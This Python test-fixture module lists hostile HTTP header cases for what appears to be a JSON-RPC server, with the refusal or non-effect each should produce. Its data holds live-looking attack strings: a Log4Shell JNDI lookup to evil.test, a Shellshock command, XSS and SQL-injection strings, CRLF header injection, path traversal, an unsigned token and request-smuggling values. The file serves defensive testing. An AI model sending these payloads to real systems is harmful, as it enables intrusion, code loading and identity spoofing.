"""Hostile headers that mean the same in each revision, and what has to become of a request that has them.

A case replaces the headers of a good request by name, whatever their case.
"""

import base64
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Final, NamedTuple

from tests.attacks.identities import OWNER
from tests.tokens import encoded, token

ORIGIN: Final = "https://app.test"
"""The one whose pages may call the server."""


Headers = tuple[tuple[str, str | None], ...]
"""Header fields in their order, of which one name may come again; None leaves out the request's own."""


class Refused(NamedTuple):
    """The request is refused with a status, and a JSON-RPC error of this code, or of one of these."""

    status: int
    codes: tuple[int, ...] = ()

    def fits(self, status: int, code: int | None) -> bool:
        """Return whether an answer is this one."""
        return status == self.status and (code in self.codes if self.codes else code is None)


NO_EFFECT: Final = None
"""The request is answered as it is without these headers."""

UNAUTHORIZED: Final = Refused(401)
FORBIDDEN: Final = Refused(403, (-32600,))
NOT_ACCEPTABLE: Final = Refused(406, (-32600,))
UNSUPPORTED_MEDIA_TYPE: Final = Refused(415, (-32600,))


@dataclass(frozen=True, slots=True, kw_only=True)
class HeaderCase:
    """What a request has instead of its own headers of these names, and what becomes of it."""

    name: str
    headers: Headers
    outcome: Refused | None
    method: str = "POST"


def header(name: str, value: str | None, outcome: Refused | None, *, method: str = "POST") -> HeaderCase:
    """Return the case of one header; None leaves it out."""
    return headers([(name, value)], outcome, method=method)


def headers(pairs: list[tuple[str, str | None]], outcome: Refused | None, *, method: str = "POST") -> HeaderCase:
    """Return the case of several headers, or of one that comes more than once."""
    told = ", ".join(f"{name}: {'-' if value is None else _short(value)}" for name, value in pairs)
    return HeaderCase(name=f"{method} {told}", headers=tuple(pairs), outcome=outcome, method=method)


def _short(value: str) -> str:
    return ascii(value) if len(value) < 80 else f"{value[:40]!a}...{value[-20:]!a}, {len(value)} long"


def injections(text: str) -> list[str]:
    """Return a value with what ends a header, or a line of a log, in other implementations than ours."""
    return [f"{text}\r\nX-Tenant: x", f"{text}\nX-Tenant: x", f"{text}\r", f"{text}\x00", f"{text}\x0b", f"\x7f{text}"]


TENANT, SUBJECT = OWNER.tenant, OWNER.subject
CLAIMS: Final = json.dumps({"tenant": TENANT, "subject": SUBJECT, "sub": SUBJECT, "scopes": "read"})
HEADER: Final = json.dumps({"alg": "none"})
UNSIGNED: Final = "".join(f"{encoded(part.encode()).decode()}." for part in (HEADER, CLAIMS))
"""A token of the owner's that nobody signed."""


def authorizations(own: str) -> Iterator[HeaderCase]:
    """Yield what the Authorization header may hold of a caller who has a token, and one of another caller's besides."""
    other = token(tenant="rival", sub="mallory")
    basic = base64.b64encode(f"{TENANT}:{SUBJECT}".encode()).decode()
    for value in (
        *(
            None,
            "",
            " ",
            "Bearer",
            "Bearer ",
            own,
            f"Bearer{own}",
            f"Bearer\t{own}",
            f"Bearer\u00a0{own}",
            f"Bearer: {own}",
        ),
        *(f"Bearer={own}", f'Bearer "{own}"', f"Bearer <{own}>", f"Bearer {own}  {other}", f"Bearer {own},{other}"),
        *(
            f"Bearer {own}, Bearer {other}",
            f"Bearer {own}; tenant={TENANT}",
            f"Bearer Bearer {own}",
            f"Bearer {own}\x00",
        ),
        *(
            f"Bearer {own}\u00a0",
            f"Bearer\r\n {own}",
            f"Bearer {own}\r\nX-Tenant: x",
            f"\uff22earer {own}",
            f"Bearer%20{own}",
        ),
        *(f"DPoP {own}", f"Token {own}", f"Basic {basic}", f"JWT {own}", f"MAC {own}", "Negotiate YII=", UNSIGNED),
        *(
            f"Bearer {UNSIGNED}",
            f"AWS4-HMAC-SHA256 Credential={own}",
            f"Bearer {'A' * 100_000}",
            "Bearer " * 1_000 + own,
        ),
    ):
        yield header("Authorization", value, UNAUTHORIZED)
    for value in (f"bearer {own}", f"BEARER {own}", f"Bearer   {own}", f" Bearer {own} ", f"\tBearer {own}\t"):
        yield header("Authorization", value, NO_EFFECT)
    yield header("authorization", f"Bearer {own}", NO_EFFECT)
    yield header("AUTHORIZATION", f"Bearer {own}", NO_EFFECT)
    for name in ("Authorization", "authorization"):
        yield headers([("Authorization", f"Bearer {own}"), (name, f"Bearer {other}")], UNAUTHORIZED)
        yield headers([("Authorization", f"Bearer {own}"), (name, f"Bearer {own}")], UNAUTHORIZED)
    for name in ("Authorization ", "Authorization\x00", " Authorization", "Authorization:", "X-Authorization"):
        yield headers([("Authorization", None), (name, f"Bearer {own}")], UNAUTHORIZED)
    for name in (
        "Proxy-Authorization",
        "X-Forwarded-Authorization",
        "X-Api-Key",
        "X-Amz-Security-Token",
        "X-Auth-Token",
    ):
        yield header(name, f"Bearer {other}", NO_EFFECT)
    yield header("Cookie", f"access_token={other}; Authorization=Bearer {other}; tenant={TENANT}", NO_EFFECT)


WHO: Final[Mapping[str, str]] = {
    **dict.fromkeys(("X-Tenant", "X-Tenant-Id", "Tenant", "X-Amz-Tenant-Id", "X-Amzn-Tenant-Id"), TENANT),
    **dict.fromkeys(("X-Subject", "Sub", "X-User", "X-User-Id", "Remote-User", "X-Remote-User"), SUBJECT),
    **dict.fromkeys(("X-Forwarded-User", "X-Auth-Request-User", "X-Amzn-Oidc-Identity", "From"), SUBJECT),
    **dict.fromkeys(("X-Owner", "X-Owner-Key", "Owner-Key", "PrincipalId", "X-Principal-Id"), OWNER.owner_key),
    **dict.fromkeys(("X-Amzn-Oidc-Data", "X-Amzn-Oidc-Accesstoken", "X-Jwt-Assertion", "X-Id-Token"), UNSIGNED),
    **dict.fromkeys(("Authorizer", "X-Authorizer", "X-Claims", "X-Amzn-Authorizer-Context"), CLAIMS),
    **dict.fromkeys(("RequestContext", "X-Apigateway-Context"), json.dumps({"authorizer": json.loads(CLAIMS)})),
    "X-Apigateway-Event": json.dumps({"requestContext": {"authorizer": json.loads(CLAIMS)}}),
    "requestContext.authorizer.tenant": TENANT,
    "requestContext.authorizer.subject": SUBJECT,
    "authorizer.tenant": TENANT,
    "__proto__": CLAIMS,
    "X-Scopes": "read call cancel answer",
    "X-Mcp-Ticket": UNSIGNED,
}
"""By which gateways, load balancers and frameworks say who calls; here nobody but the authorizer does."""

ON_THE_WAY: Final[Mapping[str, tuple[str, ...]]] = {
    "Host": ("evil.test", "localhost", "127.0.0.1:8080", "[::1]", "evil.test, app.test", "", "x" * 10_000),
    "X-Forwarded-Host": ("evil.test", "127.0.0.1"),
    "X-Forwarded-For": ("127.0.0.1", "::1, 169.254.169.254", "' OR 1=1 --", ",".join(["10.0.0.1"] * 5_000)),
    "X-Forwarded-Proto": ("http", "javascript"),
    "X-Forwarded-Prefix": ("/../admin",),
    "Forwarded": ("for=127.0.0.1;host=evil.test;proto=http",),
    "X-Real-Ip": ("127.0.0.1",),
    "X-Original-Url": ("/admin",),
    "X-Rewrite-Url": ("/.well-known/oauth-protected-resource",),
    "X-Http-Method-Override": ("DELETE", "GET"),
    "X-Http-Method": ("DELETE",),
    "X-Amzn-Trace-Id": ("Root=1-0-0;Sampled=1;Lineage=x", "Self=\x00", "x" * 10_000),
    "X-Amzn-Requestid": ("11111111-2222-3333-4444-555555555555",),
    "X-Amz-Invocation-Type": ("Event", "DryRun"),
    "X-Amz-Log-Type": ("Tail",),
    "X-Amz-Client-Context": ("eyJ9",),
    "X-Amz-Target": ("DynamoDB_20120810.Scan",),
    "X-Amz-Content-Sha256": ("UNSIGNED-PAYLOAD",),
    "Traceparent": (
        *("00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", "00-" + "0" * 32 + "-" + "0" * 16 + "-01"),
        *("ff-" + "f" * 32 + "-" + "f" * 16 + "-ff", "00-\u0660", "-", "0" * 10_000, "${jndi:ldap://evil.test/a}"),
    ),
    "Tracestate": (f"tenant={TENANT}", "=" * 10_000),
    "Baggage": (f"tenant={TENANT},subject={SUBJECT}",),
    "User-Agent": ("${jndi:ldap://evil.test/a}", "() { :; }; id", "", "%s%s%s%n", "<script>alert(1)</script>"),
    "Referer": ("https://evil.test/",),
    "Content-Length": ("0", "-1", "1e9", "99999999999999999999", "7, 8"),
    "Transfer-Encoding": ("chunked", "chunked, identity", "\x0bchunked", "xchunked"),
    "Content-Encoding": ("gzip", "br, gzip, deflate"),
    "Max-Forwards": ("0",),
    "Trailer": ("Authorization",),
    "Connection": ("authorization, mcp-session-id", "upgrade"),
    "Upgrade": ("websocket", "h2c"),
    "Expect": ("100-continue", "200-ok"),
    "Range": ("bytes=0-0",),
    "If-None-Match": ("*",),
    "Early-Data": ("1",),
    "Idempotency-Key": ("k" * 20,),
    "Accept-Language": ("../../etc/passwd", "\u00e9" * 1_000),
    "Accept-Encoding": ("gzip;q=0, *;q=0",),
    "Access-Control-Request-Method": ("DELETE",),
    "Access-Control-Request-Headers": ("x-tenant, " * 1_000,),
    "X-Very-Long": ("A" * 1_000_000,),
    "N" * 10_000: ("a name that is very long",),
    "": ("without a name",),
    "\u00e9t\u00e9": ("\u00e9t\u00e9",),
    "X-Bad\r\nX-Tenant": (TENANT,),
}
"""What proxies, tracing, caches and AWS itself read, and this server does not."""

Values = tuple[str | None, ...]

FOREIGN_ORIGINS: Final[Values] = (
    *("https://evil.test", "http://app.test", "https://app.test:444", "https://app.test.evil.test", "null", "", " "),
    *("https://evil.test/https://app.test", "https://app.test@evil.test", "https://evil.test#https://app.test", "*"),
    *("https://app.test/", "https://app.tes", "https://xapp.test", "//app.test", "app.test", "file://", "data:"),
    *("https://APP.TEST", "https://\u0430pp.test", "https://app.test, https://evil.test", "http://localhost:6274"),
    *("http://127.0.0.1", "http://[::1]", "http://169.254.169.254", "chrome-extension://abc", "https://app%2Etest"),
    *("https://" + "a" * 100_000, *injections("https://app.test")),
)
"""Pages that may not call: among them those that reach the server by a name of their own (DNS rebinding)."""

OTHER_TYPES: Final[Values] = (
    *(None, "", "text/plain", "text/json", "application/jsonp", "application/json-seq", "application/xml", "*/*"),
    *("multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/json, text/plain"),
    *("text/plain; application/json", "application/ json", "application/json\x00", "application/json\r\nX-Tenant: x"),
)
JSON_TYPES: Final[Values] = (
    *("APPLICATION/JSON", " application/json ", "application/json;charset=utf-7", "application/json; charset=utf-16"),
    *("application/json;", "application/json;;;q=0", "application/json; boundary=x; name=\r\n"),
)
OTHER_ANSWERS: Final[Values] = (
    *("", "text/html", "application/json", "text/event-stream", "application/json;q=0, text/event-stream", "image/*"),
    *("*/*;q=0", "application/json, text/event-stream; q=0.000", "application/json text/event-stream", "\x00*/*"),
)
BOTH_ANSWERS: Final[Values] = (
    *(None, "*/*", "APPLICATION/JSON, TEXT/EVENT-STREAM", "text/*, application/*", "text/html;q=0, */*;q=0.1"),
    *(", , application/json ,text/event-stream,", "application/json, text/event-stream, " + "x/y, " * 20_000),
    *("*/*, " + "text/html;q=0" + "0" * 20_000, "*/*;\tq=1\r\nX-Tenant: x"),
)


def common(own: str) -> Iterator[HeaderCase]:
    """Yield the cases of a caller who has a token of its own."""
    yield from authorizations(own)
    for name, value in WHO.items():
        yield header(name, value, NO_EFFECT)
    for name, values in ON_THE_WAY.items():
        for value in values:
            yield header(name, value, NO_EFFECT)
    for origin in FOREIGN_ORIGINS:
        yield header("Origin", origin, FORBIDDEN)
    yield headers([("Origin", "http://evil.test"), ("Host", "evil.test")], FORBIDDEN)
    for name in ("Origin", "origin"):
        yield headers([("Origin", ORIGIN), (name, "https://evil.test")], FORBIDDEN)
        yield headers([("Origin", "https://evil.test"), (name, ORIGIN)], FORBIDDEN)
    for media_types, name, outcome in (
        (OTHER_TYPES, "Content-Type", UNSUPPORTED_MEDIA_TYPE),
        (JSON_TYPES, "Content-Type", NO_EFFECT),
        (OTHER_ANSWERS, "Accept", NOT_ACCEPTABLE),
        (BOTH_ANSWERS, "Accept", NO_EFFECT),
    ):
        for media_type in media_types:
            yield header(name, media_type, outcome)
    yield headers([("Content-Type", "application/json"), ("content-type", "text/plain")], UNSUPPORTED_MEDIA_TYPE)
    yield headers([("Content-Type", "text/plain"), ("content-type", "application/json")], UNSUPPORTED_MEDIA_TYPE)
    yield headers([("Accept", "application/json"), ("accept", "text/event-stream")], NO_EFFECT)
